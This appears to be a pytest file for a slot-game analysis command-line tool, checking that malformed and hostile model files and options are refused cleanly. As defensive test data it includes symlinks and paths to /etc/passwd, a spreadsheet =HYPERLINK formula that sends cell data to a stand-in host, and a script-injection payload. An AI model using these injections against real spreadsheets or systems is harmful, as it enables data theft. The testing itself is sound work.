@@ -1,0 +1,737 @@
+"""Hostile and careless input (issue 20): every bad model file or command line is
+one line ``error: ...`` and exit code 2, fast, with nothing written to ``--out``.
+
+The table :data:`CASES` runs in-process through :func:`analytic.cli.main` (an
+interpreter start per entry would cost a second each); the entries that need a
+real process (signals, a pipe, ``/dev/zero``) are at the end of the file.  The
+oracle is the promise of ``DEVELOPERS.md`` (rule 3), not the program's output:
+exit code 2, one stderr line starting ``error:`` that names the file and the key
+path where there is one, no traceback, nothing in ``--out``, and well under
+:data:`TIME_LIMIT` seconds (the point is "no hang", not speed).
+"""
+
+from __future__ import annotations
+
+import os
+import signal
+import subprocess
+import sys
+import time
+from dataclasses import dataclass, field
+from fractions import Fraction
+from pathlib import Path
+from typing import Callable
+
+import pytest
+
+from analytic.cli import main
+
+ROOT = Path(__file__).resolve().parents[2]
+TIME_LIMIT = 20.0  # seconds per entry; generous so that a busy machine does not make it flaky
+
+#: A small game that solves in well under a second (3 reels, 1 line, a scatter, a currency cap).
+TINY = """\
+[game]
+name = "Tiny"
+reels = 3
+rows = 1
+provider = "Test"
+notes = "fixture"
+published = { rtp = "95%" }
+
+[symbols]
+a = "regular"
+b = "regular"
+w = "wild"
+s = "scatter"
+x = "blank"
+
+[paytable]
+a = { 3 = 10 }
+b = { 2 = 1, 3 = 5 }
+w = { 3 = 20 }
+
+[scatter]
+symbols = ["s"]
+pays = { 2 = "1/2", 3 = 5 }
+
+[paylines]
+lines = [[0, 0, 0]]
+
+[reels]
+base = [["a", "b", "w", "s", "x"], ["a", "b", "b", "s", "x"], ["a", "b", "w", "s", "x"]]
+
+[modes.base]
+cost = 1
+reels = "base"
+description = "plain"
+
+[cap]
+total_bet_multiple = 1000
+currency = 250
+currency_name = "GBP"
+stakes = [1, 2]
+
+[design]
+"paytable.a" = "the reason"
+"""
+
+
+def tiny(*edits: tuple[str, str]) -> str:
+    """:data:`TINY` with each ``old`` (exactly once in the text) replaced by ``new``."""
+    text = TINY
+    for old, new in edits:
+        assert text.count(old) == 1, f"ambiguous or missing fixture text {old!r}"
+        text = text.replace(old, new)
+    return text
+
+
+def csv_model(name: str) -> str:
+    """:data:`TINY` with reel set ``base`` read from the CSV file ``name``."""
+    return tiny(('base = [["a", "b", "w", "s", "x"], ["a", "b", "b", "s", "x"], ["a", "b", "w", "s", "x"]]',
+                 f'base = {{ csv = "{name}" }}'))
+
+
+GOOD_CSV = "reel1,reel2,reel3\na,a,a\nb,b,b\nw,b,w\ns,s,s\nx,x,x\n"
+
+
+@dataclass
+class Case:
+    """One hostile input.
+
+    ``model``: the model text (written to ``tmp/game/m.toml``) or None for the
+    good :data:`TINY`; ``argv``: the command line, where ``{model}``, ``{tmp}``
+    and ``{out}`` are filled in (``{out}`` a path that must not exist after the
+    run); ``setup(tmp)``: makes extra files (CSV, links, pipes) and may return a
+    model path to use instead; ``where``: fragments the error line must hold
+    (the key path, the option).
+    """
+
+    id: str
+    argv: list[str]
+    model: str | None = None
+    where: tuple[str, ...] = ()
+    setup: Callable[[Path], str | None] | None = None
+    names_file: bool = True
+    code: int = 2
+    marks: tuple = field(default_factory=tuple)
+
+
+REPORT = ["report", "{model}", "--out", "{out}", "--formats", "md,json"]
+SOLVE = ["solve", "{model}"]
+
+CASES: list[Case] = []
+
+
+def add(*args, **kw):
+    CASES.append(Case(*args, **kw))
+
+
+# --- control characters in every kind of text (the XLSX writer crashed on them) --------------
+CONTROLS = {"nul": "\\u0000", "bel": "\\u0007", "esc": "\\u001b", "vt": "\\u000b", "bs": "\\u0008",
+            "del": "\\u007f", "csi": "\\u009b", "ff": "\\u000c"}
+TEXT_FIELDS = {
+    "game-name": (('name = "Tiny"', 'name = "Ti{c}ny"'), "game.name"),
+    "provider": (('provider = "Test"', 'provider = "Te{c}st"'), "game.provider"),
+    "notes": (('notes = "fixture"', 'notes = "fix{c}ture"'), "game.notes"),
+    "description": (('description = "plain"', 'description = "pl{c}ain"'), "modes.base.description"),
+    "design-text": (('"paytable.a" = "the reason"', '"paytable.a" = "the {c}reason"'), "design.paytable.a"),
+    "design-key": (('"paytable.a" = "the reason"', '"pay{c}table.a" = "the reason"'), "design"),
+    "mode-name": (("[modes.base]", '[modes."ba{c}se"]'), "modes"),
+    "published": (('published = { rtp = "95%" }', 'published = { rtp = "9{c}5%" }'), "game.published.rtp"),
+}
+for cname, c in CONTROLS.items():
+    for fname, ((old, new), where) in TEXT_FIELDS.items():
+        add(f"control-{cname}-in-{fname}", REPORT, tiny((old, new.replace("{c}", c))), (where, "control character"))
+add("newline-in-game-name", REPORT, tiny(('name = "Tiny"', 'name = "Ti\\nny"')), ("game.name", "one line"))
+add("newline-in-mode-name", REPORT, tiny(("[modes.base]", '[modes."ba\\nse"]')), ("modes", "control character"))
+add("text-too-long", REPORT, tiny(('notes = "fixture"', f'notes = "{"x" * 3000}"')), ("game.notes", "3,000 characters"))
+add("key-too-long", REPORT, tiny(('"paytable.a" = "the reason"', f'"{"k" * 300}" = "r"')), ("design", "300 characters"))
+
+# --- exact-number strings: bounded before parsing (1e999999999 ran until killed) -------------
+NUMBERS = {
+    "huge-exponent": "1e999999999", "tiny-exponent": "1e-999999999", "exp-2000000": "1e-2000000",
+    "exp-31": "1e31", "zero-denominator": "1/0", "nan": "nan", "inf": "inf", "long": "1" * 100,
+    "arabic-digits": "\u0661\u0662", "hex": "0x10", "words": "ten", "empty": "", "slash-only": "/",
+    "fraction-decimal": "1.5/2",
+}
+NUMBER_FIELDS = {
+    "scatter-pay": ('pays = { 2 = "1/2", 3 = 5 }', 'pays = { 2 = "{v}", 3 = 5 }', "scatter.pays.2"),
+    "mode-cost": ("cost = 1", 'cost = "{v}"', "modes.base.cost"),
+    "cap-multiple": ("total_bet_multiple = 1000", 'total_bet_multiple = "{v}"', "cap.total_bet_multiple"),
+    "cap-currency": ("currency = 250", 'currency = "{v}"', "cap.currency"),
+    "cap-stake": ("stakes = [1, 2]", 'stakes = ["{v}", 2]', "cap.stakes[0]"),
+}
+for vname, v in NUMBERS.items():
+    for fname, (old, new, where) in NUMBER_FIELDS.items():
+        if vname in ("long", "hex", "words", "empty", "slash-only", "fraction-decimal") and fname not in (
+                "scatter-pay", "mode-cost"):
+            continue  # the same code path; two fields are enough
+        add(f"number-{vname}-in-{fname}", REPORT, tiny((old, new.replace("{v}", v))), (where,))
+
+# --- the grid ---------------------------------------------------------------------------
+add("reels-1001", REPORT, tiny(("reels = 3\n", "reels = 1001\n")), ("game.reels", "<= 1000"))
+add("rows-10^9", REPORT, tiny(("rows = 1\n", "rows = 1000000000\n")), ("game.rows", "<= 1000"))
+add("cycle-beyond-10^1000", REPORT,
+    '[game]\nname = "W"\nreels = 1000\nrows = 1\n[symbols]\na = "regular"\n[paytable]\na = { 3 = 1 }\n'
+    f'[paylines]\nlines = [[{", ".join(["0"] * 1000)}]]\n[reels]\nbase = [' + ", ".join(['["a", "a", "a", "a", "a", "a", "a", "a", "a", "a", "a"]'] * 1000) + "]\n",
+    ("reels.base", "10^1000"))
+
+# --- integers and count keys ---------------------------------------------------------------
+add("int-5000-digits", REPORT, tiny(("a = { 3 = 10 }", "a = { 3 = " + "9" * 5000 + " }")), ())
+add("int-4000-digits", REPORT, tiny(("a = { 3 = 10 }", "a = { 3 = " + "9" * 4000 + " }")),
+    ("paytable.a.3", "at most 10^18"))
+add("int-above-1e18", REPORT, tiny(("a = { 3 = 10 }", "a = { 3 = 1000000000000000001 }")), ("paytable.a.3",))
+add("int-negative-huge", REPORT, tiny(("cost = 1", "cost = -" + "9" * 30)), ("modes.base.cost",))
+add("count-key-arabic-indic", REPORT, tiny(("a = { 3 = 10 }", 'a = { "\u0663" = 10 }')), ("paytable.a",))
+add("count-key-devanagari", REPORT, tiny(("a = { 3 = 10 }", 'a = { "\u0969" = 10 }')), ("paytable.a",))
+add("count-key-fullwidth", REPORT, tiny(("a = { 3 = 10 }", 'a = { "\uff13" = 10 }')), ("paytable.a",))
+add("count-key-5000-digits", REPORT, tiny(("a = { 3 = 10 }", 'a = { "' + "3" * 5000 + '" = 10 }')),
+    ("paytable.a",))
+add("count-key-huge-scatter", REPORT, tiny(('pays = { 2 = "1/2", 3 = 5 }', 'pays = { 99999999999 = 5 }')),
+    ("scatter.pays",))
+add("float-pay", REPORT, tiny(("a = { 3 = 10 }", "a = { 3 = 1e308 }")), ("paytable.a.3", "integer"))
+add("float-inf-currency", REPORT, tiny(("currency = 250", "currency = inf")), ("cap.currency", "finite"))
+add("float-nan-stake", REPORT, tiny(("stakes = [1, 2]", "stakes = [nan, 2]")), ("cap.stakes[0]",))
+
+FS = '\n[features.fs]\nkind = "free_spins"\nreels = "base"\ntrigger = {{ symbols = ["s"], counts = {{ 3 = {t} }} }}\n' \
+     'retrigger = {{ symbols = ["s"], counts = {{ 3 = {r} }} }}\n\n[cap]'
+add("award-1e9-spins", SOLVE, tiny(("\n[cap]", FS.format(t=999999999, r=1))), ("features.fs.trigger.counts.3", "10000"))
+add("retrigger-award-1e9-spins", SOLVE, tiny(("\n[cap]", FS.format(t=10, r=999999999))),
+    ("features.fs.retrigger.counts.3", "10000"))
+add("award-negative", SOLVE, tiny(("\n[cap]", FS.format(t=-1, r=1))), ("features.fs.trigger.counts.3", ">= 0"))
+
+PICK = ('\n[line_triggers]\nb = {{ 3 = "pick" }}\n[features.pick]\nkind = "pick_bonus"\npicks = {{ {n} = 1 }}\n'
+        'prizes_per_pick = {{ {m} = 1 }}\nprizes = [[5, 1]]\n\n[cap]')
+PICK_MODEL = tiny(('b = "regular"', 'b = "bonus"'), ("b = { 2 = 1, 3 = 5 }\n", ""))
+add("pick-bonus-1e9-picks", SOLVE, PICK_MODEL.replace("\n[cap]", PICK.format(n=999999999, m=1), 1),
+    ("features.pick.picks", "at most 40"))
+add("pick-bonus-1e9-prizes-per-pick", SOLVE, PICK_MODEL.replace("\n[cap]", PICK.format(n=1, m=999999999), 1),
+    ("features.pick.picks", "at most 40"))
+add("pick-bonus-41-prizes", SOLVE, PICK_MODEL.replace("\n[cap]", PICK.format(n=41, m=1), 1),
+    ("features.pick.picks", "41 prizes; at most 40"))
+
+# --- nesting (RecursionError in the TOML reader and the loader) ----------------------------
+add("nested-arrays-3000", REPORT, tiny(('published = { rtp = "95%" }', "published = { x = " + "[" * 3000 + "]" * 3000 + " }")), ())
+add("nested-inline-tables-3000", REPORT,
+    tiny(('published = { rtp = "95%" }', "published = " + "{ a = " * 3000 + "1" + " }" * 3000)), ())
+add("dotted-key-3000-design", REPORT, tiny(('"paytable.a" = "the reason"', ".".join(["k"] * 3000) + ' = "r"')),
+    ("design", "nest more than 32"))
+add("dotted-key-3000-published", REPORT,
+    tiny(('published = { rtp = "95%" }', "published = { " + ".".join(["p"] * 3000) + " = 1 }")),
+    ("game.published", "nest more than 32"))
+add("nested-tables-40", REPORT, tiny(('"paytable.a" = "the reason"', "[design" + ".d" * 40 + "]\nz = 'r'")),
+    ("design", "nest more than 32"))
+BASE_LINE = 'base = [["a", "b", "w", "s", "x"], ["a", "b", "b", "s", "x"], ["a", "b", "w", "s", "x"]]'
+add("nested-arrays-40-in-reels", REPORT, tiny((BASE_LINE, "base = " + "[" * 40 + BASE_LINE[7:] + "]" * 40)),
+    ("reels.base", "nest more than 32"))
+
+# --- files: the model file ------------------------------------------------------------------
+
+
+def _dir_as_model(tmp: Path) -> str:
+    (tmp / "game" / "adir.toml").mkdir()
+    return str(tmp / "game" / "adir.toml")
+
+
+def _fifo_model(tmp: Path) -> str:
+    os.mkfifo(tmp / "game" / "pipe.toml")
+    return str(tmp / "game" / "pipe.toml")
+
+
+def _dev_zero_model(tmp: Path) -> str:
+    (tmp / "game" / "zero.toml").symlink_to("/dev/zero")
+    return str(tmp / "game" / "zero.toml")
+
+
+def _huge_model(tmp: Path) -> str:
+    p = tmp / "game" / "huge.toml"
+    with open(p, "wb") as fh:
+        fh.truncate(65 * 1024 * 1024)  # sparse: no 65 MB written
+    return str(p)
+
+
+def _latin1_model(tmp: Path) -> str:
+    p = tmp / "game" / "latin1.toml"
+    p.write_bytes(TINY.replace('"Tiny"', '"T\xefny"').encode("latin-1"))
+    return str(p)
+
+
+add("model-is-a-folder", REPORT, setup=_dir_as_model, where=("a folder",))
+add("model-is-a-fifo", REPORT, setup=_fifo_model, where=("not a regular file",))
+add("model-links-to-dev-zero", REPORT, setup=_dev_zero_model, where=("not a regular file",))
+add("model-over-64-MiB", REPORT, setup=_huge_model, where=("limit",))
+add("model-not-utf8", REPORT, setup=_latin1_model, where=("UTF-8",))
+add("model-missing", ["report", "{tmp}/nope.toml", "--out", "{out}"], where=("No such file",))
+add("model-path-with-nul", ["solve", "{tmp}/a\0b.toml"], where=("embedded null",), names_file=False)
+add("model-not-toml", REPORT, "this is = = not toml\n", ("not valid TOML",))
+add("model-empty", REPORT, "", ("game",))
+add("model-binary", REPORT, "\x00\x01\x02", ("not valid TOML",))
+
+# --- files: CSV strips ---------------------------------------------------------------------
+
+
+def _outside(tmp: Path) -> Path:
+    d = tmp / "elsewhere"
+    d.mkdir(exist_ok=True)
+    (d / "strips.csv").write_text(GOOD_CSV)
+    return d
+
+
+def _csv_link_outside(tmp):
+    (tmp / "game" / "link.csv").symlink_to(_outside(tmp) / "strips.csv")
+
+
+def _csv_dir_link_outside(tmp):
+    (tmp / "game" / "sub").symlink_to(_outside(tmp), target_is_directory=True)
+
+
+def _csv_link_passwd(tmp):
+    (tmp / "game" / "link.csv").symlink_to("/etc/passwd")
+
+
+def _csv_link_dev_zero(tmp):
+    (tmp / "game" / "link.csv").symlink_to("/dev/zero")
+
+
+def _csv_fifo(tmp):
+    os.mkfifo(tmp / "game" / "pipe.csv")
+
+
+def _csv_dir(tmp):
+    (tmp / "game" / "adir.csv").mkdir()
+
+
+def _csv_huge(tmp):
+    with open(tmp / "game" / "huge.csv", "wb") as fh:
+        fh.truncate(65 * 1024 * 1024)
+
+
+def _csv_latin1(tmp):
+    (tmp / "game" / "l1.csv").write_bytes("reel1,reel2,reel3\na,a,\xe9\n".encode("latin-1"))
+
+
+def _csv_long_cell(tmp):
+    (tmp / "game" / "long.csv").write_text("a,a,a\n" + "x" * 5000 + ",b,b\nb,b,b\n")
+
+
+def _csv_field_limit(tmp):
+    (tmp / "game" / "field.csv").write_text('a,a,a\n"' + "y" * 200_000 + '",b,b\n')
+
+
+def _csv_chain_links(tmp):  # a link inside the folder to a link that leaves it
+    (tmp / "game" / "hop.csv").symlink_to(_outside(tmp) / "strips.csv")
+    (tmp / "game" / "link.csv").symlink_to(tmp / "game" / "hop.csv")
+
+
+add("csv-link-outside", REPORT, csv_model("link.csv"), ("reels.base.csv", "outside the model's folder"),
+    setup=_csv_link_outside)
+add("csv-under-linked-folder", REPORT, csv_model("sub/strips.csv"), ("reels.base.csv", "outside"),
+    setup=_csv_dir_link_outside)
+add("csv-link-to-etc-passwd", REPORT, csv_model("link.csv"), ("reels.base.csv", "outside"), setup=_csv_link_passwd)
+add("csv-link-to-dev-zero", REPORT, csv_model("link.csv"), ("reels.base.csv", "outside"), setup=_csv_link_dev_zero)
+add("csv-chained-links-outside", REPORT, csv_model("link.csv"), ("reels.base.csv", "outside"),
+    setup=_csv_chain_links)
+add("csv-absolute-path", REPORT, csv_model("/etc/passwd"), ("reels.base.csv", "relative path"))
+add("csv-dot-dot", REPORT, csv_model("../elsewhere/strips.csv"), ("reels.base.csv", "relative path"),
+    setup=lambda tmp: _outside(tmp) and None)
+add("csv-fifo", REPORT, csv_model("pipe.csv"), ("reels.base.csv", "not a regular file"), setup=_csv_fifo)
+add("csv-folder", REPORT, csv_model("adir.csv"), ("reels.base.csv", "a folder"), setup=_csv_dir)
+add("csv-over-64-MiB", REPORT, csv_model("huge.csv"), ("reels.base.csv", "limit"), setup=_csv_huge)
+add("csv-not-utf8", REPORT, csv_model("l1.csv"), ("reels.base.csv", "UTF-8"), setup=_csv_latin1)
+add("csv-missing", REPORT, csv_model("none.csv"), ("reels.base.csv", "No such file"))
+add("csv-long-unknown-cell", REPORT, csv_model("long.csv"), ("reels.base[0][1]", "5,000 characters"),
+    setup=_csv_long_cell)
+add("csv-field-over-csv-limit", REPORT, csv_model("field.csv"), ("reels.base.csv",), setup=_csv_field_limit)
+
+# --- command lines: simulate / verify --------------------------------------------------------
+SIM = ["simulate", "{model}", "--no-progress"]
+for flag, values in {
+    "--rounds": ["0", "-1", "100000000000000000000", "10000000001", "1e5", "abc", "", "\u0661\u0660"],
+    "--seed": ["-1", "1.5", "x", str(2**200)],
+    "--workers": ["0", "-3", "two", "1.5"],
+    "--stake": ["0", "-5", "1/0", "abc", "1e999999999", "nan", "inf", "0/1"],
+    "--scheduler": ["garbage", "tcp://", "http://host:8786", "tcp://host"],
+}.items():
+    for v in values:
+        rounds = [] if flag == "--rounds" else ["--rounds", "10"]
+        add(f"simulate{flag}={v[:12]!r}", SIM + rounds + [flag, v], where=(flag.lstrip("-"),), names_file=False)
+add("simulate-stake-without-currency-cap", SIM + ["--rounds", "10", "--stake", "5"], tiny(
+    ("currency = 250\ncurrency_name = \"GBP\"\nstakes = [1, 2]\n", "")), ("--stake", "no win cap in currency"))
+add("simulate-no-rounds", SIM, where=("--rounds",), names_file=False)
+add("simulate-unknown-mode", SIM + ["--rounds", "10", "--mode", "nope"], where=("modes", "nope"))
+add("simulate-bad-format", SIM + ["--rounds", "10", "--format", "xml"], where=("--format",), names_file=False)
+for flag, v in (("--rounds", "0"), ("--rounds", "100000000000000000000"), ("--seed", "-1"), ("--workers", "0"),
+                ("--workers", "-3")):
+    rounds = [] if flag == "--rounds" else ["--rounds", "10"]
+    add(f"verify{flag}={v[:12]}", ["verify", "{model}", "--no-progress"] + rounds + [flag, v],
+        where=(flag.lstrip("-"),), names_file=False)
+add("verify-unknown-mode", ["verify", "{model}", "--rounds", "10", "--mode", "nope"], where=("modes", "nope"))
+
+# --- command lines: tune -------------------------------------------------------------------
+TUNE = ["tune", "{model}", "--out", "{out}"]
+
+
+def _a_file(tmp: Path) -> None:
+    (tmp / "afile").write_text("x")
+
+
+def _a_folder(tmp: Path) -> None:
+    (tmp / "afolder").mkdir()
+
+
+for flag, values in {
+    "--target-rtp": ["150", "100.01", "0", "-5", "abc", "1e999999999", "1/0", ""],
+    "--target-hit-frequency": ["101", "0", "-1", "x"],
+    "--target-feature-frequency": ["150", "2", "0", "-0.5", "1/0", "101%"],
+    "--rtp-tolerance": ["0", "1", "-1", "x"],
+    "--max-steps": ["-1", "abc", "1.5", "10001"],
+}.items():
+    for v in values:
+        rtp = [] if flag == "--target-rtp" else ["--target-rtp", "90"]
+        add(f"tune{flag}={v[:12]!r}", TUNE + rtp + [flag, v], where=(flag.lstrip("-"),), names_file=False)
+for lock in ("9/a", "9/zz", "zz", "0/a", "x/a", "1/", "\u0661/a", "2/zz", "a/1"):
+    add(f"tune--lock={lock!r}", TUNE + ["--target-rtp", "90", "--lock", lock], where=("--lock",), names_file=False)
+add("tune-in-place-and-out", TUNE + ["--target-rtp", "90", "--in-place"], where=("--in-place", "--out"),
+    names_file=False)
+add("tune-reel-set-nope", TUNE + ["--target-rtp", "90", "--reel-set", "nope"], where=("--reel-set", "nope"),
+    names_file=False)
+add("tune-unknown-mode", TUNE + ["--target-rtp", "90", "--mode", "nope"], where=("modes", "nope"))
+add("tune-out-is-a-folder", ["tune", "{model}", "--target-rtp", "90", "--out", "{tmp}/afolder"],
+    where=("--out", "is a folder"), setup=_a_folder, names_file=False)
+add("tune-out-under-a-file", ["tune", "{model}", "--target-rtp", "90", "--out", "{tmp}/afile/t.toml"],
+    where=("--out", "which is a file"), setup=_a_file, names_file=False)
+add("tune-out-missing-folder", ["tune", "{model}", "--target-rtp", "90", "--out", "{tmp}/no/such/t.toml"],
+    where=("--out", "does not exist"), names_file=False)
+add("tune-out-unwritable", ["tune", "{model}", "--target-rtp", "90", "--out", "/proc/analytic-t.toml"],
+    where=("--out", "cannot write"), names_file=False)
+add("tune-out-nul", ["tune", "{model}", "--target-rtp", "90", "--out", "{tmp}/a\0b.toml"], where=("--out",),
+    names_file=False)
+add("tune-no-target", ["tune", "{model}", "--out", "{out}"], where=("--target-rtp",), names_file=False)
+
+# --- command lines: report, solve, the program ------------------------------------------------
+add("report-out-is-a-file", ["report", "{model}", "--out", "{tmp}/afile"], where=("--out", "is a file"),
+    setup=_a_file, names_file=False)
+add("report-out-under-a-file", ["report", "{model}", "--out", "{tmp}/afile/sub"], where=("--out", "which is a file"),
+    setup=_a_file, names_file=False)
+add("report-out-unwritable", ["report", "{model}", "--out", "/proc/analytic-report-test"],
+    where=("--out", "cannot write"), names_file=False)
+add("report-out-dangling-link", ["report", "{model}", "--out", "{tmp}/dangling"], where=("--out", "link to nothing"),
+    setup=lambda tmp: (tmp / "dangling").symlink_to(tmp / "nowhere") and None, names_file=False)
+add("report-out-nul", ["report", "{model}", "--out", "{tmp}/o\0ut"], where=("--out",), names_file=False)
+add("report-out-empty", ["report", "{model}", "--out", ""], where=("--out",), names_file=False)
+add("report-bad-format", ["report", "{model}", "--out", "{out}", "--formats", "pdf,docx"], where=("--formats",),
+    names_file=False)
+add("report-empty-formats", ["report", "{model}", "--out", "{out}", "--formats", ","], where=("--formats",),
+    names_file=False)
+add("report-bad-cap-precision", ["report", "{model}", "--out", "{out}", "--cap-precision", "max"],
+    where=("--cap-precision",), names_file=False)
+add("solve-unknown-mode", SOLVE + ["--mode", "nope"], where=("modes", "nope"))
+add("solve-bad-format", SOLVE + ["--format", "xml"], where=("--format",), names_file=False)
+add("no-command", [], where=("COMMAND",), names_file=False)
+add("unknown-command", ["frobnicate"], where=("frobnicate",), names_file=False)
+add("unknown-option", SOLVE + ["--frobnicate"], where=("--frobnicate",), names_file=False)
+
+
+# --- the slowest shipped model (a minute of both cores to solve) with a bad command line: refused at once
+BOP = str(ROOT / "models" / "book_of_power.toml")
+add("slow-model-report-out-is-a-file", ["report", BOP, "--out", "{tmp}/afile"], where=("--out", "is a file"),
+    setup=_a_file, names_file=False)
+add("slow-model-report-out-unwritable", ["report", BOP, "--out", "/proc/analytic-x/y"], where=("--out",),
+    names_file=False)
+add("slow-model-report-out-under-a-file", ["report", BOP, "--out", "{tmp}/afile/x"], where=("--out",),
+    setup=_a_file, names_file=False)
+add("slow-model-tune-out-is-a-folder", ["tune", BOP, "--target-rtp", "94", "--out", "{tmp}/afolder"],
+    where=("--out", "is a folder"), setup=_a_folder, names_file=False)
+add("slow-model-tune-reel-set-nope", ["tune", BOP, "--target-rtp", "94", "--out", "{out}", "--reel-set", "nope"],
+    where=("--reel-set",), names_file=False)
+add("slow-model-tune-lock-zz", ["tune", BOP, "--target-rtp", "94", "--out", "{out}", "--lock", "zz"],
+    where=("--lock",), names_file=False)
+add("slow-model-tune-feature-frequency-150", ["tune", BOP, "--target-rtp", "94", "--out", "{out}",
+                                              "--target-feature-frequency", "150"], where=("feature",),
+    names_file=False)
+add("slow-model-verify-rounds-0", ["verify", BOP, "--rounds", "0"], where=("--rounds",), names_file=False)
+add("slow-model-solve-mode-nope", ["solve", BOP, "--mode", "nope"], where=("modes", "nope"), names_file=False)
+
+
+def _fill(argv: list[str], model: str, tmp: Path, out: Path) -> list[str]:
+    return [a.replace("{model}", model).replace("{tmp}", str(tmp)).replace("{out}", str(out)) for a in argv]
+
+
+def _snapshot(tmp: Path) -> set[str]:
+    return {str(p.relative_to(tmp)) for p in tmp.rglob("*")}
+
+
+def test_the_table_has_at_least_150_entries():
+    assert len(CASES) >= 150
+    assert len({c.id for c in CASES}) == len(CASES)
+
+
+@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
+def test_hostile_input_is_one_line_error_exit_2(case: Case, tmp_path: Path, capsys):
+    game = tmp_path / "game"
+    game.mkdir()
+    model = game / "m.toml"
+    model.write_text(TINY if case.model is None else case.model, encoding="utf-8")
+    if case.setup is not None:
+        model = Path(case.setup(tmp_path) or model)
+    out = tmp_path / "out"
+    before = _snapshot(tmp_path)
+    capsys.readouterr()
+    t0 = time.perf_counter()
+    code = main(_fill(case.argv, str(model), tmp_path, out))
+    elapsed = time.perf_counter() - t0
+    cap = capsys.readouterr()
+    err = cap.err
+    assert code == case.code, f"exit {code}; stderr: {err!r}"
+    assert "Traceback" not in err + cap.out
+    lines = err.splitlines()
+    assert len(lines) == 1 and lines[0].startswith("error: "), err
+    assert len(lines[0]) < 1000, "an error line quotes at most a short excerpt"
+    if case.names_file:
+        assert str(model).replace("\0", "\\0") in lines[0] or str(tmp_path) in lines[0], lines[0]
+    for fragment in case.where:
+        assert fragment in lines[0], lines[0]
+    assert not out.exists(), "nothing may be written to --out"
+    assert _snapshot(tmp_path) == before, "nothing may be written anywhere"
+    assert elapsed < TIME_LIMIT
+
+
+def test_no_file_content_is_echoed(tmp_path, capsys):
+    """A strip linked to a system file is refused without quoting the file."""
+    (tmp_path / "link.csv").symlink_to("/etc/passwd")
+    (tmp_path / "m.toml").write_text(csv_model("link.csv"))
+    assert main(["solve", str(tmp_path / "m.toml")]) == 2
+    err = capsys.readouterr().err
+    assert "root:" not in err and "/bin/" not in err
+
+
+# --- accepted input that must arrive as text -------------------------------------------------
+HOSTILE_TEXT = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")', "=SUM(1)+1", "+1+1", "-2+3", "@SUM(1)", "\tTAB=1",
+    "\r=CR", "<script>alert(1)</script>", "# heading", "*bold* [link](http://evil.example) `code` a\\b & c",
+]
+
+
+def _hostile_model() -> str:
+    q = [t.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r") for t in HOSTILE_TEXT]
+    text = tiny(('name = "Tiny"', f'name = "{q[1]}"'), ('provider = "Test"', f'provider = "{q[0]}"'),
+                ('notes = "fixture"', f'notes = "{q[7]}\\n# not a heading"'),
+                ("[modes.base]", f'[modes."{q[1]}"]'), ('description = "plain"', f'description = "{q[2]}"'),
+                ('"paytable.a" = "the reason"',
+                 "\n".join([f'"{k}" = "key"' for k in q if "\\t" not in k and "\\r" not in k]  # keys: no tab, no CR
+                           + [f'"reason-{i}" = "{v}"' for i, v in enumerate(q)])))
+    return text
+
+
+def test_formula_like_text_arrives_as_text_in_xlsx_and_markdown(tmp_path, capsys):
+    openpyxl = pytest.importorskip("openpyxl")
+    (tmp_path / "m.toml").write_text(_hostile_model())
+    out = tmp_path / "out"
+    assert main(["report", str(tmp_path / "m.toml"), "--out", str(out), "--formats", "xlsx,md,json"]) == 0, \
+        capsys.readouterr().err
+    wb = openpyxl.load_workbook(out / "m.xlsx")
+    seen = {}
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for c in row:
+                assert c.data_type != "f", f"{ws.title}!{c.coordinate} is a formula: {c.value!r}"
+                if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "\t", "\r")):
+                    assert c.quotePrefix, f"{ws.title}!{c.coordinate} {c.value!r} lacks the quote prefix"
+                if isinstance(c.value, str):
+                    seen[c.value] = True
+    for t in HOSTILE_TEXT[:6]:
+        assert any(t in v for v in seen), f"{t!r} missing from the workbook"
+    md = (out / "m.md").read_text()
+    assert "<script>" not in md and "&lt;script>" in md
+    assert "\n# not a heading" not in md and not any(line.startswith("# heading") for line in md.splitlines())
+    assert "](http" not in md  # no live link
+    assert md.splitlines()[0].startswith("# =SUM(1)+1 -- par sheet")
+
+
+def test_huge_cycle_and_many_reels_still_write_pdf_and_xlsx(tmp_path, capsys):
+    """320 reels of 10 stops: a cycle of 10^320 (beyond the largest float) and far too wide for the PDF."""
+    pytest.importorskip("fpdf")
+    n = 320
+    strip = "[\"a\", \"b\", " + ", ".join(["\"x\""] * 8) + "]"
+    text = (f'[game]\nname = "Wide"\nreels = {n}\nrows = 1\n\n[symbols]\na = "regular"\nb = "regular"\nx = "blank"\n\n'
+            f'[paytable]\na = {{ 3 = 5 }}\nb = {{ 2 = 1 }}\n\n[paylines]\nlines = [[{", ".join(["0"] * n)}]]\n\n'
+            f"[reels]\nbase = [\n" + ",\n".join([strip] * n) + "\n]\n")
+    (tmp_path / "w.toml").write_text(text)
+    out = tmp_path / "out"
+    assert main(["report", str(tmp_path / "w.toml"), "--out", str(out), "--formats", "pdf,xlsx"]) == 0, \
+        capsys.readouterr().err
+    import openpyxl
+
+    wb = openpyxl.load_workbook(out / "w.xlsx")
+    cycles = [c.value for c in wb["Mode base"]["B"] if c.value == str(10**320)]
+    assert cycles, "the cycle is written as its exact digits"
+    assert (out / "w.pdf").stat().st_size > 0
+
+
+def test_long_strips_are_left_out_of_the_pdf_only(tmp_path, capsys, monkeypatch):
+    pytest.importorskip("fpdf")
+    import analytic.reports.pdf as pdf
+    import analytic.reports.xlsx as xlsx
+
+    monkeypatch.setattr(pdf, "PDF_MAX_STOPS", 4)  # the tiny game's 5 stops are "too long" for the PDF
+    monkeypatch.setattr(xlsx, "XLSX_MAX_STOPS", 4)
+    (tmp_path / "m.toml").write_text(TINY)
+    out = tmp_path / "out"
+    assert main(["report", str(tmp_path / "m.toml"), "--out", str(out), "--formats", "pdf,xlsx,md"]) == 0
+    import openpyxl
+
+    texts = [c.value for c in openpyxl.load_workbook(out / "m.xlsx")["Reels"]["A"] if isinstance(c.value, str)]
+    assert any("Stop table not written" in t for t in texts)
+    assert "| stop |" in (out / "m.md").read_text()
+
+
+def test_regular_symbol_without_pays_warns(tmp_path, capsys):
+    (tmp_path / "m.toml").write_text(tiny(("a = { 3 = 10 }\n", "")))
+    assert main(["solve", str(tmp_path / "m.toml")]) == 0
+    err = capsys.readouterr().err.splitlines()
+    assert err == [f"warning: {tmp_path / 'm.toml'}: paytable.a: regular symbol 'a' has no line pays, so it never "
+                   "pays (give it pays, or the role 'blank' if it is meant to stop lines)"]
+
+
